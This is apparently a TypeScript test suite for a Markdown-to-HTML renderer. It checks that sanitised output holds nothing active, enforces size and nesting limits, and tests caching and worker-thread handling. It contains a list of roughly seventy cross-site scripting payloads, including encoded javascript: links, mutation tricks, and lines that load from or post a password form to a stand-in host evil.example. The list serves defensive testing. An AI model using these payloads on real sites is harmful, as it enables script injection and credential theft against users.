// Markdown: what it renders, that nothing active comes out of it, and that no source makes it slow.
import assert from "node:assert/strict";
import fc from "fast-check";
import { type DefaultTreeAdapterTypes as Tree, parse } from "parse5";
import { ApiError } from "../../../core/errors.ts";
import { convertMarkdown } from "../../../services/snippets/markdown.ts";
import type { Form } from "../../../services/snippets/markdown_worker.ts";
import { toDocument } from "../../../services/snippets/markdown_html.ts";
import { pause } from "../../until.ts";

function* elements(node: Tree.Node): Generator<Tree.Element> {
  if ("tagName" in node) yield node;
  if ("content" in node) yield* elements(node.content);
  if ("childNodes" in node) { for (const child of node.childNodes) yield* elements(child); }
}

const PASSIVE = new Set(
  ("html head meta title style body h1 h2 h3 h4 h5 h6 p blockquote pre code hr br ul ol li dl dt dd details summary " +
    "figure figcaption table caption thead tbody tfoot tr th td a img input strong b em i del s ins mark kbd samp " +
    "var sub sup small abbr cite q dfn time span div").split(" "),
);
const PASSIVE_ATTRIBUTES = new Set(
  "href title rel src alt width height type checked disabled class start align open datetime lang"
    .split(" "),
);

/** What a browser would make of the document holds nothing that runs, loads or sends by itself. */
function assertPassive(html: string) {
  let styles = 0;
  for (const { tagName, attrs, namespaceURI } of elements(parse(html))) {
    assert.equal(namespaceURI, "http://www.w3.org/1999/xhtml", html);
    assert.ok(PASSIVE.has(tagName), `<${tagName}> in ${html}`);
    if (tagName === "style") styles++;
    if (tagName === "meta") continue;
    for (const { name, value } of attrs) {
      assert.ok(PASSIVE_ATTRIBUTES.has(name), `${name} in ${html}`);
      if (name === "href") assert.match(resolved(value), /^(https?|mailto|tel):/, html);
      if (name === "src") assert.match(resolved(value), /^https?:/, html);
      if (name === "type") assert.equal(value, "checkbox");
    }
  }
  assert.equal(styles, 1, html);
}

function resolved(value: string): string {
  return URL.parse(value, "https://base.invalid/")?.href ?? "https://unparsable.invalid";
}

/** Classics of cross-site scripting, in HTML and in Markdown. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//x.y></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" ONERROR = "alert(1)"/>',
  "<img/src=x/onerror=alert(1)>",
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<object data=data:text/html,<script>alert(1)</script>>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<form action=//evil.example><input name=password><button>go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<input type=image src=x>",
  "<input type=checkbox onclick=alert(1) name=a form=b>",
  "<details open ontoggle=alert(1)>x</details>",
  "<body onload=alert(1)>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x autoplay onplay=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><script>alert(1)</script></template>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><script>alert(1)</script>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  "<a href='x' target=_blank ping=//evil.example id=location name=body>x</a>",
  '<a href="https://x" class="language-x" style="position:fixed">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  '![x](x"onerror="alert\\(1\\))',
  '![x" onerror="alert(1)](y)',
  '[x](https://y "z\\" onmouseover=\\"alert(1)")',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '``` x" onclick="alert(1)\ncode\n```',
  "`<script>alert(1)</script>`",
  "# </title><script>alert(1)</script>",
  "# </style></head><body onload=alert(1)>",
  "</body></html><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><x onload=alert(1)>',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<p><style><!--</style><script>alert(1)//--></script>",
];

for (const payload of PAYLOADS) {
  Deno.test(`markdown: passive: ${JSON.stringify(payload).slice(0, 60)}`, () => {
    assertPassive(toDocument(payload));
  });
}

Deno.test("markdown: payloads stay passive when cut and joined at random", () => {
  const piece = fc.constantFrom(...PAYLOADS).chain((payload) =>
    fc.tuple(fc.nat(payload.length), fc.nat(payload.length)).map(([a, b]) =>
      payload.slice(Math.min(a, b), Math.max(a, b))
    )
  );
  const glue = fc.constantFrom(
    "",
    "\n",
    "\n\n",
    "> ",
    "* ",
    "`",
    "<",
    ">",
    '"',
    "'",
    "](",
    "<!--",
    "-->",
  );
  const source = fc.array(fc.oneof(piece, glue, fc.constantFrom(...PAYLOADS)), { maxLength: 12 });
  fc.assert(fc.property(source, (parts) => assertPassive(toDocument(parts.join("")))), {
    numRuns: 1500,
  });
});

const rendered: readonly [name: string, source: string, holds: string][] = [
  ["headings", "## Two", "<h2>Two</h2>"],
  ["emphasis and struck text", "*a* **b** ~~c~~", "<em>a</em> <strong>b</strong> <del>c</del>"],
  ["tables", "| a |\n|:-:|\n| b |", '<td align="center">b</td>'],
  ["task lists", "- [x] done", '<input type="checkbox" disabled checked />'],
  ["links of their own", "see https://a.example", 'href="https://a.example"'],
  ["links are not followed blindly", "[a](https://b)", 'rel="nofollow noopener noreferrer"'],
  ["code with its language", "```ts\nx\n```", '<code class="language-ts">x'],
  ["images", "![a](https://b/c.png)", '<img src="https://b/c.png" alt="a" />'],
  ["the title, from the first heading", "a\n\n# *B* & C\n\n# D", "<title>B &amp; C</title>"],
  ["a title where there is no heading", "a", "<title>Document</title>"],
  ["comments before one that has no end", "![<!-- a -->b <!-- c", "<p>![b &lt;!-- c</p>"],
  ["a heading in a quote, and what follows it", "> # a\nb", "</blockquote>\n<p>b</p>"],
  ["a doctype", "", "<!doctype html>"],
  ["a charset", "", '<meta charset="utf-8">'],
  ["a viewport", "", '<meta name="viewport"'],
];
for (const [name, source, holds] of rendered) {
  Deno.test(`markdown: ${name}`, () =>
    assert.ok(toDocument(source).includes(holds), toDocument(source)));
}

const SIZE = 256 * 1024;

/** Asks again where a busy machine takes longer than a caller waits: the conversion goes on. */
async function converted(source: string, form: Form): Promise<Uint8Array> {
  for (;;) {
    try {
      return await convertMarkdown(source, form);
    } catch (error) {
      if (!(error instanceof ApiError && error.code === "UNAVAILABLE")) throw error;
      await pause(10);
    }
  }
}

/** The document as the API answers with it. */
async function markdownToHtml(source: string): Promise<string> {
  return JSON.parse(new TextDecoder().decode(await converted(source, "json")));
}

Deno.test("markdown: long sources are converted too", async () => {
  const text = "Some *ordinary* text, as people write it. ".repeat(20) + "\n\n";
  const html = await markdownToHtml(text.repeat(SIZE / text.length));
  assert.ok(html.length > SIZE);
});

Deno.test("markdown: over 256 KiB in UTF-8: 413", async () => {
  const error = { code: "PAYLOAD_TOO_LARGE" };
  await assert.rejects(markdownToHtml("a".repeat(SIZE + 1)), error);
  await assert.rejects(markdownToHtml("ä".repeat(SIZE / 2 + 1)), error);
});

const refused: readonly [name: string, source: string, why: RegExp][] = [
  ["quotes within quotes", ">".repeat(4096), /nested too deeply/],
  ["lists within lists", "- ".repeat(100) + "a", /nested too deeply/],
  ["headings in quotes, and lines without a mark", "> # a\nb\n".repeat(200), /without a mark/],
  ["elements within elements", "<b>".repeat(300), /nested too deeply/],
  [
    "a link's long target, again and again",
    `[a]: /${"x".repeat(9999)}\n\n${"[a] ".repeat(200)}`,
    /over/,
  ],
  ["cells that rows lack", `${"|a".repeat(999)}\n${"|-".repeat(999)}\n${"|\n".repeat(60)}`, /over/],
  ["more than a document holds", "&".repeat(SIZE), /over/],
];
for (const [name, source, why] of refused) {
  Deno.test(`markdown: refused: ${name}`, async () => {
    await assert.rejects(markdownToHtml(source), { code: "VALIDATION_ERROR", message: why });
  });
}

Deno.test("markdown: a depth that people use is converted", () => {
  const list = Array.from({ length: 20 }, (_, i) => `${"  ".repeat(i)}- item ${i}`).join("\n");
  assert.ok(toDocument(list).includes("item 19"));
  assert.ok(toDocument(`${"> ".repeat(40)}deep`).includes("deep"));
  assert.ok(toDocument(`${"<div>".repeat(60)}\n\ndeep`).includes("deep"));
});

/** Counts the sources that are sent to the thread, and the threads that this one starts, while `work` runs. */
async function countedDuring(
  work: () => Promise<unknown>,
): Promise<{ sent: number; threads: number }> {
  const { Worker: Original } = globalThis;
  const { postMessage } = Original.prototype;
  const count = { sent: 0, threads: 0 };
  Original.prototype.postMessage = function (...sent: unknown[]) {
    count.sent++;
    return Reflect.apply(postMessage, this, sent);
  };
  globalThis.Worker = class extends Original {
    constructor(...options: ConstructorParameters<typeof Worker>) {
      super(...options);
      count.threads++;
    }
  };
  try {
    await work();
  } finally {
    Original.prototype.postMessage = postMessage;
    globalThis.Worker = Original;
  }
  return count;
}

Deno.test("markdown: a source is converted once, however often it is asked for", async () => {
  const source = `# ${crypto.randomUUID()}`;
  const { sent } = await countedDuring(async () => {
    const htmls = await Promise.all(Array.from({ length: 10 }, () => markdownToHtml(source)));
    assert.equal(new Set(htmls).size, 1);
    await markdownToHtml(source);
  });
  assert.equal(sent, 1);
});

Deno.test("markdown: a refusal is remembered", async () => {
  const source = `${">".repeat(999)} ${crypto.randomUUID()}`;
  const { sent } = await countedDuring(async () => {
    for (let i = 0; i < 3; i++) {
      await assert.rejects(markdownToHtml(source), { code: "VALIDATION_ERROR" });
    }
  });
  assert.equal(sent, 1);
});

Deno.test("markdown: sixteen wait at most, and a place is free again when its conversion has ended", async () => {
  const source = () => `# ${crypto.randomUUID()}`;
  const under = Array.from({ length: 16 }, () => markdownToHtml(source()));
  await assert.rejects(convertMarkdown(source(), "json"), { code: "UNAVAILABLE" });
  await Promise.all(under);
  assert.ok((await markdownToHtml(source())).startsWith("<!doctype html>"));
});

Deno.test("markdown: conversions that follow each other are done by one thread, since to start another stops the event loop", async () => {
  await converted(`# ${crypto.randomUUID()}`, "srcdoc");
  const text = "Some *ordinary* text, as people write it. ".repeat(20) + "\n\n";
  const { sent, threads } = await countedDuring(async () => {
    for (let i = 0; i < 5; i++) {
      await converted(`${i}${text.repeat(SIZE / text.length - 1)}`, "srcdoc");
    }
  });
  assert.deepEqual({ sent, threads }, { sent: 5, threads: 0 });
});

Deno.test("markdown: a frame gets the same document, its links opening beside it", async () => {
  const source = '# "A" & B\n\n[c](https://d.example)';
  const written = new TextDecoder().decode(await convertMarkdown(source, "srcdoc"));
  assert.ok(!written.includes('"'), "it would end the attribute");
  const html = written.replaceAll("&quot;", '"').replaceAll("&amp;", "&");
  assert.equal(html, toDocument(source).replace("<head>", '<head><base target="_blank">'));
});
